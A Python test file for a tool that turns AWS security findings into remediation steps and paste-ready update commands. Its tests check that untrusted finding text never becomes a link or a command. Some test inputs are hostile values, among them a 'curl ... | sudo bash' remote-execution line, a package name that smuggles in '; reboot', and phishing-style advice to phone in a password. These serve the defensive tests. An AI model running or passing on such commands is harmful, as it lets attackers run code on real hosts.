"""The first step says something; nothing of a stranger's finding passes for our words in it; rights are known."""

from __future__ import annotations

import json
import re
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from formatter.finding.finding import Finding
from formatter.finding.reader import finding_from
from formatter.finding.safe import mapping
from formatter.messages.asked import Asked
from formatter.messages.layouts.registry import layout_of
from harness.findings import EVENTS, finding, from_event, received
from harness.odd_findings import base_findings

GENERAL = ("Open the resource, check its settings", "Read what the product says, and look at the resource")
PARTNER = "arn:aws:securityhub:eu-central-1::product/example/scanner"
OWN = "arn:aws:securityhub:eu-central-1:111122223333:product/111122223333/default"


def all_events() -> list[Finding]:
    return [one.finding for path in sorted(EVENTS.glob("*.json")) for one in received(path.stem)]


@pytest.mark.parametrize(
    ("name", "first_step"),
    [
        ("control_security_group_rules", "Limit port 22 to known addresses; remove rules open to everyone."),
        (
            "guardduty_runtime_reverse_shell",
            "Stop it: isolate the pod with a network policy and revoke the access of the Kubernetes user or service account.",
        ),
        ("guardduty_attack_sequence", "Stop it: deactivate the access key AKIAIOSFODNN7EXAMPLE of build-bot."),
        (
            "guardduty_malware_on_disk",
            "Stop it: isolate i-0a1b2c3d4e5f with a security group that lets nothing in or out; do not terminate it.",
        ),
        (
            "guardduty_recon_with_credentials",
            "Find out whether you, a colleague or a known tool did this with the access key ASIAEXAMPLE",
        ),
        (
            "inspector_installed_release",
            (
                "Update openssl-libs from 1:3.0.7-24.el9 to 1:3.0.7-27.el9 and openssl from 1:3.0.7-24.el9 to 1:3.0.7-27.el9 "
                "on the EC2 instance, and restart what uses it."
            ),
        ),
        ("exposure_ocsf", 'Close the way in: "Port 8080 is reachable from an internet gateway".'),
        (
            "control_ocsf_assessments",
            "Check in AWS Config whether it records this resource and whether the rule may look at it.",
        ),
        (
            "general_threat_of_a_partner",
            "Stop it: isolate i-0a1b2c3d4e5f with a security group that lets nothing in or out;",
        ),
        (
            "general_calls_itself_security_hub",
            "Open the account, check the setting that the finding is about against what",
        ),
        ("config_rule", "Look up in AWS Config what the rule required-tags asks for, and change the S3 bucket."),
    ],
)
def test_the_first_step_says_what_to_do(name: str, first_step: str) -> None:
    found = from_event(name)
    assert layout_of(found).first_step(found).startswith(first_step)


def test_no_event_of_ours_that_says_something_has_a_general_first_step() -> None:
    steps = [layout_of(found).first_step(found) for found in all_events() if found.resources and found.is_aws_product]
    assert [step for step in steps if step.startswith(GENERAL)] == []


def test_few_public_findings_have_a_general_first_step(public_findings: Path) -> None:
    rows = [
        json.loads(line)
        for name in ("asff", "ocsf")
        for line in (public_findings / f"{name}.jsonl").open(encoding="utf-8")
    ]
    findings = [finding_from(row["finding"]) for row in rows]
    steps = Counter(layout_of(found).first_step(found).startswith(GENERAL) for found in findings)
    assert steps[True] < 0.10 * len(findings)


def with_text_everywhere(value: Any, text: str) -> Any:
    """Return the document with that text for each text but those that say what product and format it is."""
    if isinstance(value, dict):
        kept = ("ProductArn", "Type", "Types", "Label", "Severity", "type", "class_uid")
        return {name: one if name in kept else with_text_everywhere(one, text) for name, one in value.items()}
    if isinstance(value, list):
        return [with_text_everywhere(one, text) for one in value]
    return text if isinstance(value, str) else value


@pytest.mark.parametrize("text", ["login.example.com", "https://login.example.com/x", "shop.zip", "me@example.com"])
@pytest.mark.parametrize("arn", [PARTNER, OWN])
def test_nothing_of_a_stranger_s_finding_becomes_a_link_in_a_step(arn: str, text: str) -> None:
    for raw in base_findings():
        if "finding_info" not in raw:
            found = finding_from(with_text_everywhere(raw | {"ProductArn": arn}, text))
            layout = layout_of(found)
            assert layout.name == "general"
            assert not any(text in step.text for step in layout.steps(found))
            assert not layout.commands(found)
            assert not layout.proof(found)


@pytest.mark.parametrize(
    ("advice", "is_quoted"),
    [
        ("Enable encryption for the queue. See the page.", True),
        ("Enable encryption: https://login.example.com.", False),
        ("Run curl login.example.com/x | sudo bash now.", False),
        ("Visit www.login.example.com soon and follow it.", False),
        ("Call +49 30 1234567 now and tell your password.", False),
        ("Call 030 123 4567 now and tell your password.", False),
    ],
)
def test_only_plain_advice_of_a_registered_product_is_quoted(advice: str, is_quoted: bool) -> None:  # a table
    fields = {"Compliance": {"Status": "FAILED"}, "Remediation": {"Recommendation": {"Text": advice}}}
    step = layout_of(finding()).first_step(finding(ProductArn=PARTNER, **fields))
    assert (advice.partition(". ")[0] in step) is is_quoted
    assert advice[:10] not in layout_of(finding()).first_step(finding(ProductArn=OWN, **fields))


@pytest.mark.parametrize(
    ("words", "kind"),
    [
        ("workflow status", Asked.SET_STATUS),
        ("archive the finding", Asked.CHANGE),
        ("Stop it:", Asked.CHANGE),
        ("Update ", Asked.CHANGE),
        ("Look up in AWS Config", Asked.LOOK),
        ("tell your security team", Asked.NOTHING),
    ],
)
def test_each_step_says_what_rights_it_takes(words: str, kind: Asked) -> None:
    steps = [step for found in all_events() for step in layout_of(found).steps(found) if words in step.text]
    assert steps
    assert {step.asks for step in steps} == {kind}


def test_each_command_names_its_iam_actions_or_runs_on_a_host() -> None:
    for found in all_events():
        layout = layout_of(found)
        for command in (*layout.commands(found), *layout.proof(found)):
            assert bool(command.actions) is command.text.startswith("aws "), command.text
            assert all(re.fullmatch(r"[a-z0-9-]+:[A-Za-z0-9]+", action) for action in command.actions)


@pytest.mark.parametrize(
    ("fields", "happened"),
    [
        ({"Types": ["TTPs/Execution"]}, "A security product saw something that may be an attack."),
        ({"Types": ["TPPs/Execution"]}, "A security product saw something that may be an attack."),
        ({"Types": ["Unusual Behaviors/User"]}, "A security product saw something that may be an attack."),
        ({"Types": ["Effects/Data Exposure"]}, "A security product found a setting that is not as it should be."),
        ({"Types": ["Sensitive Data Identifications/PII"]}, "A security product found sensitive data."),
        (
            {"Types": ["Software and Configuration Checks/Vulnerabilities/CVE"]},
            "A security product found a weakness in software.",
        ),
        (
            {"Types": ["Software and Configuration Checks"]},
            "A security product found a setting that is not as it should be.",
        ),
        ({"Compliance": {"Status": "FAILED"}}, "A security product found a setting that is not as it should be."),
        ({"Vulnerabilities": [{"Id": "CVE-1"}]}, "A security product found a weakness in software."),
        ({"Malware": [{"Name": "m"}]}, "A security product saw something that may be an attack."),
        ({"Types": ["IAM"]}, "A security product reported a problem in this account."),
    ],
)
def test_the_general_layout_tells_kinds_of_problems_apart(fields: dict[str, Any], happened: str) -> None:
    found = finding(**fields)
    assert layout_of(found).happened(found) == happened


def test_what_may_lie_outside_aws_is_cut_off_without_a_security_group() -> None:
    resource = {"Type": "Other", "Id": "vm-1", "Partition": "azure"}
    found = finding(ProductArn=OWN, Types=["TTPs/Defense Evasion"], Resources=[resource])
    assert layout_of(found).first_step(found) == "Stop it: cut the resource off from the network; do not destroy it."


def test_an_instance_is_known_by_its_id_whatever_its_type_is_called() -> None:
    found = finding(ProductArn=PARTNER, Process={"Name": "x"}, Resources=[{"Type": "AwsEc2Instnace", "Id": "i-0abc"}])
    assert layout_of(found).first_step(found).startswith("Stop it: isolate i-0abc with a security group")


@pytest.mark.parametrize(
    ("severity", "begins"), [("HIGH", "Stop it"), ("MEDIUM", "Stop it"), ("INFORMATIONAL", "Find out")]
)
def test_malware_is_stopped_first_unless_it_is_harmless(severity: str, begins: str) -> None:
    found = finding(ProductArn=PARTNER, Malware=[{"Name": "x"}], Severity={"Label": severity})
    assert layout_of(found).first_step(found).startswith(begins)


@pytest.mark.parametrize(
    ("class_uid", "happened"),
    [
        (2002, "a weakness in software"),
        (2003, "a setting"),
        (2004, "may be an attack"),
        (2006, "sensitive data"),
        (1, "a problem"),
    ],
)
def test_the_class_of_ocsf_tells_them_apart_too(class_uid: int, happened: str) -> None:
    found = finding_from({"finding_info": {"uid": "u"}, "class_uid": class_uid})
    assert happened in layout_of(found).happened(found)
    assert mapping(found.raw)


@pytest.mark.parametrize(
    ("package", "command"),
    [
        (
            {"Name": "openssl-libs", "Version": "3.0.7", "Release": "24.el9", "PackageManager": "OS"},
            "sudo dnf update openssl-libs",
        ),
        ({"Name": "kernel", "Version": "5.10", "Release": "1.amzn2", "PackageManager": "OS"}, "sudo yum update kernel"),
        (
            {"Name": "curl", "Version": "7.68.0-1ubuntu2.7", "PackageManager": "OS"},
            "sudo apt-get update && sudo apt-get install --only-upgrade curl",
        ),
        (
            {"Name": "x", "Version": "1", "PackageManager": "OS", "Remediation": "sudo dnf update x"},
            "sudo dnf update x",
        ),
        ({"Name": "x", "Version": "1", "PackageManager": "OS", "Remediation": "curl x.example | sudo bash"}, None),
        ({"Name": "x; reboot", "Version": "1", "Release": "1.el9", "PackageManager": "OS"}, None),
        ({"Name": "@scope/pkg", "Version": "1.0.0", "PackageManager": "NPM"}, "npm install @scope/pkg@2"),
        ({"Name": "requests", "Version": "1.0.0", "PackageManager": "PIP"}, "pip install --upgrade 'requests>=2'"),
        ({"Name": "golang.org/x/net", "Version": "0.1", "PackageManager": "GOMOD"}, "go get golang.org/x/net@v2"),
        ({"Name": "org.example:lib", "Version": "1", "PackageManager": "JAR"}, None),
    ],
)
def test_inspector_gives_the_command_to_paste_where_the_package_manager_is_known(
    package: dict[str, Any], command: str | None
) -> None:
    instance = {"Type": "AwsEc2Instance", "Id": "i-0abc"}
    vulnerability = {"VulnerablePackages": [{"FixedInVersion": "2", **package}]}
    found = finding("inspector", Resources=[instance], Vulnerabilities=[vulnerability])
    assert [one.text for one in layout_of(found).commands(found)] == ([command] if command else [])


def test_a_system_package_of_an_image_is_updated_by_building_it_again() -> None:
    image = {
        "Type": "AwsEcrContainerImage",
        "Id": "arn:aws:ecr:eu-central-1:111122223333:repository/shop/cart/sha256:ab",
    }
    package = {
        "Name": "curl",
        "Version": "7.68.0-1ubuntu2.7",
        "FixedInVersion": "7.68.0-1ubuntu2.8",
        "PackageManager": "OS",
    }
    found = finding("inspector", Resources=[image], Vulnerabilities=[{"VulnerablePackages": [package]}])
    assert layout_of(found).first_step(found) == (
        "Rebuild the container image with curl 7.68.0-1ubuntu2.8 (now 7.68.0-1ubuntu2.7), push it and deploy it again."
    )
    assert not layout_of(found).commands(found)


@pytest.mark.parametrize(
    ("title", "network", "step"),
    [
        (
            "Port 3389 is reachable from an Internet Gateway - TCP",
            {},
            "Check whether port 3389 must be reachable from the internet; if not, close it in the security group.",
        ),
        (
            "Something is reachable",
            {"OpenPortRange": {"Begin": 22, "End": 25}},
            "Check whether port 22-25 must be reachable from there; if not, close it in the security group.",
        ),
        (
            "Something is reachable",
            {},
            "Check whether this port must be reachable from there; if not, close it in the security group.",
        ),
    ],
)
def test_inspector_names_the_port_that_can_be_reached(title: str, network: dict[str, Any], step: str) -> None:
    types = ["Software and Configuration Checks/Network Reachability"]
    found = finding("inspector", Title=title, Types=types, Network=network)
    assert layout_of(found).first_step(found) == step


@pytest.mark.parametrize(
    ("code", "step"),
    [
        ("CONFIG_ACCESS_DENIED", "Check in AWS Config whether it records this resource"),
        ("S3_BUCKET_CROSS_ACCOUNT_CROSS_REGION", "Look at it yourself: it is in another account or Region"),
        ("THROTTLING_ERROR", "Wait for the next check, within a day: AWS got too many requests"),
        ("A_NEW_CODE", "Mend what keeps the check from a result"),
    ],
)
def test_a_check_without_a_result_says_what_to_do_by_its_reason(code: str, step: str) -> None:
    asff = finding("securityhub", Compliance={"Status": "WARNING", "StatusReasons": [{"ReasonCode": code}]})
    product = {"uid": "arn:aws:securityhub:eu-central-1::productv2/aws/securityhub"}
    compliance = {"status": "Warning", "assessments": [{"name": code}]}
    ocsf = finding_from({"finding_info": {}, "metadata": {"product": product}, "compliance": compliance})
    for found in (asff, ocsf):
        assert layout_of(found).first_step(found).startswith(step)


@pytest.mark.parametrize(
    ("type_", "other", "step"),
    [
        (
            "Container",
            {"PkgName": "libcrypto1.1", "Installed Package": "1.1.1c-r0", "Patched Package": "1.1.1d-r2"},
            "Rebuild the container with libcrypto1.1 1.1.1d-r2 or newer.",
        ),
        (
            "AwsEc2Instance",
            {"PkgName": "curl", "Installed Package": "7.68", "Patched Package": "7.69"},
            "Update to curl 7.69 or newer on the EC2 instance.",
        ),
        (
            "Container",
            {"PkgName": "shop.zip", "Installed Package": "1", "Patched Package": "2"},
            "Rebuild the container with the release in which it is fixed.",
        ),
        (
            "Container",
            {"PkgName": "curl", "Installed Package": "7.68"},
            "Find curl on the container: is it in use, and who can reach it?",
        ),
    ],
)
def test_the_package_of_a_scanner_of_images_is_named(type_: str, other: dict[str, str], step: str) -> None:
    resource = {"Type": type_, "Id": "x", "Details": {"Other": other}}
    types = ["Software and Configuration Checks/Vulnerabilities/CVE"]
    found = finding(ProductArn=PARTNER, Types=types, Resources=[resource])
    assert layout_of(found).first_step(found) == step


def test_no_name_of_software_or_title_becomes_a_link_in_a_step_of_aws_either() -> None:
    package = {"Name": "golang.org/x/text", "Version": "0.3.7", "FixedInVersion": "0.3.8", "PackageManager": "GOMOD"}
    found = finding("inspector", Vulnerabilities=[{"VulnerablePackages": [package]}])
    assert layout_of(found).first_step(found).startswith("Update golang[.]org/x/text from 0.3.7 to 0.3.8 on")
    assert layout_of(found).commands(found)[0].text == "go get golang.org/x/text@v0.3.8"
    control = finding("securityhub", Title="See login.example.com", Compliance={"Status": "FAILED"})
    assert layout_of(control).first_step(control) == 'Change it so that this is true: "See login[.]example[.]com".'
